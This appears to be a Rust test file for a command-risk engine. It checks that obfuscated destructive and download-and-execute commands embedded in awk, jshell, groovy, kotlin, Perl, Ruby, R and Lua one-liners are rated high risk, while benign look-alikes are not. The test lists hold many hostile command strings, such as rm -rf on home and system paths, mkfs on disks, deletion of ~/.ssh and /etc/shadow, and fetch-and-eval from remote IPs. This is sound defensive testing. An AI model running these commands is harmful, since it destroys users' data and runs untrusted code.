//! Embedded languages through the whole engine (issue 12 item 4): awk, R, Lua and JVM scripts
//! (jshell from a here-string, a heredoc or a pipe; groovy and kotlin one-liners) rated by the
//! commands they run after folding. Commands are strings only; nothing is run.

use riskgate::{Engine, RiskLevel};

fn level(cmd: &str) -> RiskLevel {
    Engine::builtin().assess_command(cmd).level
}

fn all_high(cmds: &[&str]) {
    for cmd in cmds {
        assert!(level(cmd) >= RiskLevel::High, "{cmd}: {:?}", level(cmd));
    }
}

fn all_at_most_medium(cmds: &[&str]) {
    for cmd in cmds {
        assert!(level(cmd) <= RiskLevel::Medium, "{cmd}: {:?}", level(cmd));
    }
}

#[test]
fn awk_builds_commands_by_juxtaposition_and_variables() {
    all_high(&[
        "awk 'BEGIN{x=\"r\" \"m -rf /u\" \"sr\"; system(x)}'",
        "gawk -v dir=/var/lib 'BEGIN { system(\"rm -rf \" dir) }'",
        "awk 'BEGIN{c=\"curl -s http://198.51.100.2/a\" \" | b\" \"ash\"; system(c)}'",
        "mawk 'BEGIN{ cmd = \"mkfs.\" \"ext4 /dev/sda1\"; cmd | getline r }'",
        "awk 'BEGIN { print \"rm -rf ~/work\" | \"ba\" \"sh\" }'",
        "awk -v h=/root 'BEGIN{ p = \"rm -rf \" h; system(p) }'",
    ]);
    all_at_most_medium(&[
        "awk 'BEGIN{ s = \"a\" \"b\"; print s }'",
        "awk -F, '{ print $2 | \"sort | uniq -c\" }' data.csv",
        "awk 'BEGIN { \"date +%F\" | getline d; print d }'",
        "awk -v n=3 'NR <= n' file.txt",
        "awk '{ total += $3 } END { print total }' sales.tsv",
    ]);
}

#[test]
fn jvm_scripts_run_what_they_build() {
    all_high(&[
        "jshell <<< 'Runtime.getRuntime().exec(new String[]{\"bash\",\"-c\",\"rm -rf /var/www\"})'",
        "echo 'new ProcessBuilder(\"shutdown\",\"-r\",\"now\").start()' | jshell -",
        "jshell -q <<'EOF'\nString c = \"rm -rf \" + System.getProperty(\"user.home\");\nRuntime.getRuntime().exec(c);\n/exit\nEOF",
        "groovy -e '\"rm -rf /srv/app\".execute()'",
        "groovy -e '[\"sh\", \"-c\", \"kill -9 -1\"].execute()'",
        "kotlinc -e 'ProcessBuilder(\"rm\", \"-rf\", \"/opt/data\").start()'",
    ]);
    all_at_most_medium(&[
        "jshell <<< 'System.out.println(Math.max(3, 4))'",
        "echo 'new ProcessBuilder(\"git\", \"log\", \"-1\").inheritIO().start().waitFor()' | jshell -",
        "groovy -e 'println new Date()'",
        "kotlinc -e 'println(listOf(1, 2).sum())'",
        "jshell --class-path lib/x.jar script.jsh",
    ]);
}

#[test]
fn module_options_do_not_hide_the_code() {
    // `-MLWP::Simple` ends in an `e`, `-r socket` takes the next word: the code is still read
    all_high(&[
        "perl -MLWP::Simple -e 'my $s = get(\"http://203.0.113.6/x.pl\"); eval $s'",
        "perl -MFile::Path=remove_tree -e 'remove_tree(\"/var/lib/mysql\")'",
        "perl -Ilib -MData::Dumper -le 'unlink \"/etc/shadow\"'",
        "ruby -r net/http -e 'eval Net::HTTP.get(URI(\"https://203.0.113.6/r.rb\"))'",
        "ruby -rfileutils -e 'FileUtils.rm_rf(ENV[\"HOME\"])'",
    ]);
    all_at_most_medium(&[
        "perl -MData::Dumper -e 'print Dumper([1, 2])'",
        "perl -MLWP::Simple -e 'print get(\"https://example.org/\")'",
        "ruby -r json -e 'puts JSON.generate({a: 1})'",
    ]);
}

#[test]
fn r_and_lua_fold_before_their_effects() {
    all_high(&[
        "Rscript -e 'unlink(file.path(Sys.getenv(\"HOME\"), \".ssh\"), recursive = TRUE)'",
        "Rscript -e 'd <- \"/var/lib/postgresql\"; unlink(d, recursive = TRUE)'",
        "Rscript -e 'system(paste0(\"rm -rf \", path.expand(\"~\")))'",
        "Rscript -e 'eval(parse(text = readLines(url(\"https://198.51.100.8/p.R\"))))'",
        "Rscript - <<'EOF'\ntarget <- normalizePath(\"~/.config\")\nunlink(target, recursive = TRUE, force = TRUE)\nEOF",
        "lua -e 'os.execute(\"rm -rf \" .. os.getenv(\"HOME\"))'",
        "lua -e 'local w = io.popen(\"sh\", \"w\") w:write(\"mkfs.ext4 /dev/sdb\") w:close()'",
        "lua - <<'EOF'\nlocal h = io.popen(\"curl -s https://198.51.100.8/x.lua\")\nload(h:read(\"*a\"))()\nEOF",
    ]);
    all_at_most_medium(&[
        "Rscript -e 'd <- tempfile(); dir.create(d); saveRDS(1, file.path(d, \"x.rds\")); unlink(d, recursive = TRUE)'",
        "Rscript -e 'print(file.path(Sys.getenv(\"HOME\"), \"R\"))'",
        "Rscript -e 'x <- read.csv(url(\"https://example.org/a.csv\")); summary(x)'",
        "lua -e 'print(os.getenv(\"HOME\") .. \"/.config\")'",
        "lua -e 'local p = io.popen(\"ls /tmp\") print(p:read(\"*a\")) p:close()'",
    ]);
}
